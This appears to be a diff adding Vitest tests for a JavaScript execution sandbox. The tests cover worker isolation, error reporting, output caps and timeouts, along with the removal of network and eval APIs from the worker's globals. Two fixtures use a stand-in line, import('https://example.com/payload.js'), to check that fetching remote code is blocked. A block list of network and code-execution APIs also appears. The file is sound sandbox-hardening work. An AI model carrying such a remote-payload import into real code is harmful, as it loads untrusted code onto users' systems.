@@ -0,0 +1,199 @@
+// client/src/__tests__/sandbox.test.js
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+import vm from 'vm';
+import { executeSandboxedCode } from '../services/codeRunnerService';
+import { handleSandboxRequest, lockDownGlobals } from '../utils/sandboxRuntime';
+
+// Runs the sandbox in-process, with the same messages as the real worker
+class LoopbackWorker {
+  constructor() {
+    this.terminated = false;
+    LoopbackWorker.instances.push(this);
+  }
+
+  postMessage(data) {
+    handleSandboxRequest(data, (message) => {
+      if (!this.terminated) this.onmessage({ data: message });
+    });
+  }
+
+  terminate() {
+    this.terminated = true;
+  }
+}
+
+// Stands in for a worker stuck in an endless loop
+class UnresponsiveWorker extends LoopbackWorker {
+  postMessage() {}
+}
+
+const run = (code, options) => executeSandboxedCode(code, 'javascript', { filePath: 'main.js', ...options });
+
+describe('sandboxed execution', () => {
+  beforeEach(() => {
+    LoopbackWorker.instances = [];
+    vi.stubGlobal('Worker', LoopbackWorker);
+  });
+
+  afterEach(() => {
+    vi.unstubAllGlobals();
+    vi.useRealTimers();
+  });
+
+  it('runs a file with its imports in a worker of its own', async () => {
+    const result = await run("import { add } from './math';\nconsole.log(add(2, 3));", {
+      sources: { 'math.js': 'export const add = (a, b) => a + b;' }
+    });
+
+    expect(result).toMatchObject({ success: true, output: '5', error: null });
+    expect(LoopbackWorker.instances).toHaveLength(1);
+    expect(LoopbackWorker.instances[0].terminated).toBe(true);
+  });
+
+  it('waits for timers and reports errors thrown in them', async () => {
+    const result = await run("setTimeout(() => console.log('later'), 10);\nconsole.log('now');");
+    expect(result.output).toBe('now\nlater');
+
+    const failed = await run("setTimeout(() => {\n  null.value;\n}, 0);");
+    expect(failed.success).toBe(false);
+    expect(failed.error).toMatch(/^TypeError: .*\n {4}at main\.js:2:8$/);
+  });
+
+  it('reports runtime errors with the file and line they came from', async () => {
+    const result = await run("import { parse } from './lib/parser';\nconsole.log('parsing');\nparse();", {
+      sources: { 'lib/parser.js': 'export function parse() {\n  return missing.value;\n}' }
+    });
+
+    expect(result.success).toBe(false);
+    expect(result.output).toBe('parsing');
+    expect(result.error).toBe('ReferenceError: missing is not defined\n    at lib/parser.js:2:3');
+  });
+
+  it('reports syntax errors and missing modules', async () => {
+    const syntax = await run("import './broken';", { sources: { 'broken.js': 'const a = 1;\nlet b = ;' } });
+    expect(syntax).toMatchObject({ success: false, output: null });
+    expect(syntax.error).toBe('SyntaxError: Unexpected token\n    at broken.js:2:9');
+
+    const missing = await run("const x = require('./nope');");
+    expect(missing.error).toBe("Error: Cannot find module './nope' from 'main.js'\n    at main.js:1");
+  });
+
+  it('rejects dynamic imports, which could load code from the network', async () => {
+    const result = await run("const { load } = require('./loader.cjs');\nload();", {
+      sources: { 'loader.cjs': "exports.load = () =>\n  import('https://example.com/payload.js');" }
+    });
+
+    expect(result).toMatchObject({ success: false, output: null });
+    expect(result.error).toBe('SyntaxError: Dynamic import() is not supported, use require() instead\n    at loader.cjs:2:3');
+  });
+
+  it('still runs plain scripts in sloppy mode', async () => {
+    const code = 'function isStrict() { return this === undefined; }\nconsole.log(isStrict());';
+    expect((await run(code)).output).toBe('false');
+    expect((await run(`export {};\n${code}`)).output).toBe('true');
+  });
+
+  it('caps the output', async () => {
+    const result = await run("for (let i = 0; i < 1000; i++) console.log('0123456789');", {
+      limits: { maxOutputLength: 25 }
+    });
+
+    expect(result.success).toBe(true);
+    expect(result.output).toBe('0123456789\n0123456789\n012\n[Output truncated after 25 characters]');
+  });
+
+  it('terminates the worker when the time runs out', async () => {
+    vi.stubGlobal('Worker', UnresponsiveWorker);
+    vi.useFakeTimers();
+
+    const result = run('while (true) {}', { limits: { timeout: 2000 } });
+    vi.advanceTimersByTime(2000);
+
+    expect(await result).toEqual({
+      success: false,
+      output: null,
+      error: 'Execution timed out after 2 seconds',
+      executionTime: 2000
+    });
+    expect(LoopbackWorker.instances[0].terminated).toBe(true);
+  });
+
+  it('only runs JavaScript and TypeScript', async () => {
+    const result = await executeSandboxedCode('print(1)', 'python');
+    expect(result.success).toBe(false);
+    expect(LoopbackWorker.instances).toHaveLength(0);
+  });
+});
+
+describe('sandbox globals', () => {
+  // A realm whose global object inherits like a worker's does, with the
+  // APIs on the prototypes rather than on the global object itself
+  const createWorkerRealm = () => {
+    const context = vm.createContext({});
+    vm.runInContext(`
+      class EventTarget { addEventListener() {} }
+      class WorkerGlobalScope extends EventTarget {
+        fetch() { return 'fetched'; }
+        importScripts() {}
+        get indexedDB() { return 'database'; }
+        setTimeout() { return 1; }
+      }
+      class DedicatedWorkerGlobalScope extends WorkerGlobalScope { postMessage() {} }
+      Object.setPrototypeOf(globalThis, DedicatedWorkerGlobalScope.prototype);
+      globalThis.WebSocket = class {};
+      globalThis.console = { log() {} };
+    `, context);
+    return context;
+  };
+
+  // Whether code finds a usable property of that name anywhere on the
+  // global object or its prototypes
+  const isReachable = (context, name) => vm.runInContext(`(() => {
+    for (let target = globalThis; target; target = Object.getPrototypeOf(target)) {
+      const descriptor = Object.getOwnPropertyDescriptor(target, ${JSON.stringify(name)});
+      if (descriptor && (descriptor.value !== undefined || descriptor.get)) return true;
+    }
+    return false;
+  })()`, context);
+
+  it('hides network and storage APIs, on the prototypes of the global object too', () => {
+    const context = createWorkerRealm();
+    expect(vm.runInContext('Object.getPrototypeOf(globalThis).fetch()', context)).toBe('fetched');
+
+    lockDownGlobals(vm.runInContext('globalThis', context));
+
+    [
+      'fetch', 'importScripts', 'indexedDB', 'WebSocket', 'postMessage', 'addEventListener',
+      'eval', 'Function', 'setTimeout'
+    ].forEach(name => {
+      expect(isReachable(context, name), name).toBe(false);
+    });
+    expect(vm.runInContext(`[
+      typeof fetch,
+      typeof Object.getPrototypeOf(globalThis).fetch,
+      typeof Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).importScripts,
+      typeof globalThis.WebSocket
+    ].join()`, context)).toBe('undefined,undefined,undefined,undefined');
+
+    // The language and the allowed helpers are left alone
+    expect(vm.runInContext('[typeof console.log, Math.max(1, 2), [1].map(x => x * 2)[0]].join()', context))
+      .toBe('function,2,2');
+  });
+
+  it('leaves no way to run a string as code, which could import() from the network', () => {
+    const context = createWorkerRealm();
+    lockDownGlobals(vm.runInContext('globalThis', context));
+
+    expect(vm.runInContext(`[
+      typeof eval,
+      typeof Function,
+      typeof (() => {}).constructor,
+      typeof (async () => {}).constructor,
+      typeof (function* () {}).constructor,
+      typeof (async function* () {}).constructor,
+      typeof (class {}).constructor
+    ].join()`, context)).toBe(Array(7).fill('undefined').join());
+    expect(() => vm.runInContext("(() => {}).constructor(\"return import('https://example.com/payload.js')\")", context))
+      .toThrow(/constructor is not a function/);
+  });
+});